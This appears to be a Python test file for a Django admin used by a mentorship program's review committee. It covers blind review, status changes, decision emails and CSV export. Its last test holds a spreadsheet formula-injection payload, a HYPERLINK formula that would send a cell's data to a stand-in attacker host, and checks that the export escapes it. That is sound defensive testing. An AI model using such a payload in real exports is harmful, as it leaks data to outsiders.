"""The committee's side in admin: the changelist, blind review, statuses, decisions and
the CSV export."""

import csv
import io
from html.parser import HTMLParser

import pytest
from django.core import mail
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse

from applications import services
from applications.admin_filters import StateFilter
from applications.models import Application, ApplicationReview
from tests.factories import ApplicationFactory, CycleFactory, InterestFactory, UserFactory

from .conftest import staff_user

pytestmark = pytest.mark.django_db

CHANGELIST = reverse("admin:applications_application_changelist")
# What the committee's group holds: the application, its history and its reviews.
REVIEWER_PERMS = (
    "view_application",
    "change_application",
    "view_applicationstatuschange",
    "view_applicationreview",
)


def change_url(application):
    return reverse("admin:applications_application_change", args=[application.pk])


class _FormFields(HTMLParser):
    """The values a browser would post from the admin's change form."""

    def __init__(self):
        super().__init__()
        self.data: dict[str, list[str]] = {}
        self._textarea = None
        self._select = None

    def handle_starttag(self, tag, attrs):
        a = dict(attrs)
        name = a.get("name")
        if tag == "input" and name and "disabled" not in a:
            if a.get("type") in ("checkbox", "radio") and "checked" not in a:
                return
            if a.get("type") in ("submit", "button"):
                return
            self.data.setdefault(name, []).append(a.get("value", "on"))
        elif tag == "textarea" and name:
            self._textarea = name
            self.data[name] = [""]
        elif tag == "select" and name:
            self._select = name
        elif tag == "option" and self._select and "selected" in a:
            self.data[self._select] = [a.get("value", "")]

    def handle_data(self, data):
        if self._textarea:
            self.data[self._textarea][0] += data

    def handle_endtag(self, tag):
        if tag == "textarea":
            self._textarea = None
        elif tag == "select":
            self._select = None


def change_form(client, application, **changes):
    parser = _FormFields()
    parser.feed(client.get(change_url(application)).content.decode())
    data = {k: v if len(v) > 1 else v[0] for k, v in parser.data.items()}
    data.pop("_save", None)
    data.update(changes)
    return data


def queries(client, url) -> int:
    # Measured with the shared content cache warm, as a site runs: the factories make
    # programs and cycles, and the first visit after such a change reads them afresh.
    client.get(url)
    with CaptureQueriesContext(connection) as ctx:
        assert client.get(url).status_code == 200
    return len(ctx.captured_queries)


def grow(cycle, n, *, reviewers, interests):
    for _ in range(n):
        application = ApplicationFactory(cycle=cycle, interests=interests)
        for reviewer in reviewers:
            ApplicationReview.objects.create(application=application, reviewer=reviewer, score=4)


@pytest.mark.parametrize("blind", [False, True], ids=["open review", "blind review"])
def test_changelist_runs_the_same_queries_for_10_and_200_applications(client, blind):
    cycle = CycleFactory(blind_review=blind)
    interests = [InterestFactory(program=cycle.program) for _ in range(3)]
    reviewers = [UserFactory(is_staff=True) for _ in range(2)]
    client.force_login(staff_user(*REVIEWER_PERMS))
    filtered = CHANGELIST + f"?cycle={cycle.pk}&state=OH&interest={interests[0].pk}&years=0-2"
    grow(cycle, 10, reviewers=reviewers, interests=interests)
    few, few_filtered = queries(client, CHANGELIST), queries(client, filtered)

    grow(cycle, 190, reviewers=reviewers, interests=interests)

    assert Application.objects.count() == 200
    assert queries(client, CHANGELIST) == few
    assert queries(client, filtered) == few_filtered
    assert "200 applications" in client.get(filtered).content.decode()


def test_changelist_shows_the_review_mean_and_count(admin_client):
    application = ApplicationFactory(full_name="Octavia Butler")
    for score in (3, 4):
        ApplicationReview.objects.create(
            application=application, reviewer=UserFactory(), score=score
        )

    body = admin_client.get(CHANGELIST).content.decode()

    row = body[body.index("Octavia Butler") :]
    assert '<td class="field-score_mean">3.5</td>' in row
    assert '<td class="field-score_count">2</td>' in row


def test_the_state_filter_offers_each_state_applications_name_once(admin_client):
    for state in ("OH", "IL", "OH", "", "CA", "IL"):
        ApplicationFactory(state=state)

    response = admin_client.get(CHANGELIST)

    spec = next(s for s in response.context["cl"].filter_specs if isinstance(s, StateFilter))
    # By name, the blank state left out.
    assert spec.lookup_choices == [("CA", "California"), ("IL", "Illinois"), ("OH", "Ohio")]


def test_search_finds_by_name_email_and_library(admin_client):
    ApplicationFactory(full_name="Octavia Butler", organization="Pasadena Public Library")
    ApplicationFactory(full_name="Ursula Le Guin", email="ursula@example.org")

    by_library = admin_client.get(CHANGELIST + "?q=Pasadena").content.decode()
    by_email = admin_client.get(CHANGELIST + "?q=ursula@example").content.decode()

    assert "Octavia Butler" in by_library and "Ursula Le Guin" not in by_library
    assert "Ursula Le Guin" in by_email and "Octavia Butler" not in by_email


# --- Blind review ------------------------------------------------------------------------


@pytest.fixture
def blind_application():
    cycle = CycleFactory(blind_review=True)
    return ApplicationFactory(
        cycle=cycle,
        interests=[InterestFactory(program=cycle.program)],
        applicant=UserFactory(full_name="Zora Neale", email="zora@example.org"),
        full_name="Zora Neale",
        email="zora@example.org",
        organization="Eatonville Public Library",
    )


SECRETS = ["Zora Neale", "zora@example.org", "Eatonville Public Library"]


def test_blind_review_hides_who_applied_until_the_reviewer_has_scored(client, blind_application):
    services.application_status_change(
        application=blind_application, to_status="withdrawn", by=blind_application.applicant
    )
    services.application_reopen(application=blind_application, by=blind_application.applicant)
    services.application_submit(application=blind_application, by=blind_application.applicant)
    reviewer = staff_user(*REVIEWER_PERMS)
    client.force_login(reviewer)

    listing = client.get(CHANGELIST).content.decode()
    page = client.get(change_url(blind_application)).content.decode()

    for secret in SECRETS:
        assert secret not in listing
        assert secret not in page
    assert f"Applicant #{blind_application.pk}" in listing
    assert "Hidden until you score it" in page

    response = client.post(
        change_url(blind_application),
        change_form(client, blind_application, my_score="4", my_comment="Clear goals."),
    )

    assert response.status_code == 302
    assert ApplicationReview.objects.get(reviewer=reviewer).score == 4
    page = client.get(change_url(blind_application)).content.decode()
    listing = client.get(CHANGELIST).content.decode()
    for secret in SECRETS:
        assert secret in page
    assert "Zora Neale" in listing


def test_one_reviewers_score_does_not_unblind_another(client, blind_application):
    ApplicationReview.objects.create(
        application=blind_application, reviewer=UserFactory(is_staff=True), score=5
    )
    client.force_login(staff_user(*REVIEWER_PERMS))

    page = client.get(change_url(blind_application)).content.decode()

    for secret in SECRETS:
        assert secret not in page
    assert "1 review; they show once you have scored." in page


def test_blind_review_ends_with_the_decision(client, blind_application):
    blind_application.status = Application.Status.ACCEPTED
    blind_application.save()
    client.force_login(staff_user(*REVIEWER_PERMS))

    assert "Zora Neale" in client.get(CHANGELIST).content.decode()


def test_the_csv_export_is_blind_too(client, blind_application):
    client.force_login(staff_user(*REVIEWER_PERMS))

    response = client.post(
        CHANGELIST, {"action": "export_csv", "_selected_action": [blind_application.pk]}
    )

    body = response.content.decode("utf-8-sig")
    assert "Hidden until you score it" in body
    assert "Zora Neale" not in body and "zora@example.org" not in body


# --- Statuses and answers ----------------------------------------------------------------


def test_staff_change_the_status_and_notes_and_the_history_records_it(client):
    application = ApplicationFactory()
    staff = staff_user(*REVIEWER_PERMS)
    client.force_login(staff)

    response = client.post(
        change_url(application),
        change_form(client, application, status="accepted", staff_notes="Strong goals."),
    )

    application.refresh_from_db()
    assert response.status_code == 302
    assert (application.status, application.staff_notes) == ("accepted", "Strong goals.")
    change = application.status_changes.get()
    assert (change.from_status, change.to_status, change.changed_by) == (
        "submitted",
        "accepted",
        staff,
    )


def test_a_status_change_outside_the_table_is_refused_in_the_form(client):
    application = ApplicationFactory(status="accepted")
    client.force_login(staff_user(*REVIEWER_PERMS))

    response = client.post(
        change_url(application), change_form(client, application, status="declined")
    )

    application.refresh_from_db()
    assert response.status_code == 200
    assert "Select a valid choice" in response.content.decode()
    assert application.status == "accepted"


def test_staff_cannot_change_an_applicants_answers(client):
    application = ApplicationFactory(full_name="Octavia Butler", city="Pasadena")
    client.force_login(staff_user(*REVIEWER_PERMS))

    client.post(
        change_url(application),
        change_form(client, application, full_name="Someone Else", city="Elsewhere"),
    )

    application.refresh_from_db()
    assert (application.full_name, application.city) == ("Octavia Butler", "Pasadena")


def test_the_private_identity_answer_shows_only_with_its_permission(client):
    application = ApplicationFactory(
        membership="not_member", funding_requested=True, bipoc_identity="yes"
    )
    client.force_login(staff_user(*REVIEWER_PERMS))
    without = client.get(change_url(application)).content.decode()
    client.force_login(staff_user(*REVIEWER_PERMS, "view_funding_identity"))
    with_permission = client.get(change_url(application)).content.decode()

    label = "Identifies as Black, Indigenous, or a Person of Color"
    assert label not in without
    assert label in with_permission


@pytest.mark.parametrize(
    ("action", "status"),
    [
        ("mark_under_review", "under_review"),
        ("accept", "accepted"),
        ("waitlist", "waitlisted"),
        ("decline", "declined"),
    ],
)
def test_decision_actions_move_what_they_may_and_say_what_they_refused(client, action, status):
    submitted = ApplicationFactory()
    draft = ApplicationFactory(status="draft", full_name="Drafty McDraft")
    client.force_login(staff_user(*REVIEWER_PERMS))

    response = client.post(
        CHANGELIST,
        {"action": action, "_selected_action": [submitted.pk, draft.pk]},
        follow=True,
    )

    submitted.refresh_from_db()
    draft.refresh_from_db()
    assert (submitted.status, draft.status) == (status, "draft")
    body = response.content.decode()
    assert "1 application" in body
    assert "Drafty McDraft (Mentee): A draft application cannot become" in body


# --- Decisions ---------------------------------------------------------------------------


def test_sending_decisions_twice_emails_each_applicant_once(
    client, django_capture_on_commit_callbacks
):
    accepted = ApplicationFactory(status="accepted")
    declined = ApplicationFactory(status="declined")
    undecided = ApplicationFactory(status="under_review")
    client.force_login(staff_user(*REVIEWER_PERMS))
    selection = {
        "action": "send_decisions",
        "_selected_action": [accepted.pk, declined.pk, undecided.pk],
    }

    with django_capture_on_commit_callbacks(execute=True):
        first = client.post(CHANGELIST, selection, follow=True).content.decode()
    with django_capture_on_commit_callbacks(execute=True):
        second = client.post(CHANGELIST, selection, follow=True).content.decode()

    assert sorted(m.to[0] for m in mail.outbox) == sorted([accepted.email, declined.email])
    assert "Sending 2 decisions" in first
    assert "2 applicants had already been told this decision" in second
    assert "1 application without a decision" in second
    subjects = {m.to[0]: m.subject for m in mail.outbox}
    assert subjects[accepted.email].startswith("Welcome to")
    assert "mentee application" in subjects[declined.email]


# --- Export ------------------------------------------------------------------------------


def test_export_has_one_row_per_application_with_interests_joined(admin_client):
    cycle = CycleFactory()
    storytime = InterestFactory(program=cycle.program, name="Storytime")
    edi = InterestFactory(program=cycle.program, name="EDI")
    first = ApplicationFactory(
        cycle=cycle, full_name="Ada Archer", interests=[storytime, edi], organization="Lib A"
    )
    second = ApplicationFactory(cycle=cycle, full_name="Bea Brown", interests=[edi], mentor=True)
    ApplicationReview.objects.create(application=first, reviewer=UserFactory(), score=5)

    response = admin_client.post(
        CHANGELIST, {"action": "export_csv", "_selected_action": [first.pk, second.pk]}
    )

    assert response["Content-Type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert [r["Full name"] for r in rows] == ["Ada Archer", "Bea Brown"]
    ada, bea = rows
    assert ada["Interests"] == "EDI; Storytime"
    assert (ada["Role"], ada["Status"], ada["Library or organization"]) == (
        "Mentee",
        "Submitted",
        "Lib A",
    )
    assert (ada["Mean score"], ada["Reviews"]) == ("5.00", "1")
    assert (bea["Role"], bea["Mentee capacity"], bea["Interests"]) == ("Mentor", "1", "EDI")
    # A superuser holds every permission, the private funding answer's too.
    assert "Identifies as BIPOC (private)" in rows[0]


def test_the_decisions_task_run_twice_tells_each_applicant_once(django_capture_on_commit_callbacks):
    from applications.tasks import send_decisions

    accepted = ApplicationFactory(status="accepted")
    waitlisted = ApplicationFactory(status="waitlisted")

    with django_capture_on_commit_callbacks(execute=True):
        first = send_decisions.apply(args=[[accepted.pk, waitlisted.pk]]).get()
    with django_capture_on_commit_callbacks(execute=True):
        second = send_decisions.apply(args=[[accepted.pk, waitlisted.pk]]).get()

    assert first == {"sent": 2, "already_told": 0, "refused": 0}
    assert second == {"sent": 0, "already_told": 2, "refused": 0}
    assert sorted(m.to[0] for m in mail.outbox) == sorted([accepted.email, waitlisted.email])


def test_the_export_escapes_what_a_spreadsheet_would_run_as_a_formula(admin_client):
    name = '=HYPERLINK("http://evil.example/?d="&B2,"Click me")'
    application = ApplicationFactory(full_name=name, phone="@SUM(1+1)", hopes="+1 and -1")

    response = admin_client.post(
        CHANGELIST, {"action": "export_csv", "_selected_action": [application.pk]}
    )

    row = next(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert (row["Full name"], row["Phone"], row["Hopes"]) == (
        "'" + name,
        "'@SUM(1+1)",
        "'+1 and -1",
    )
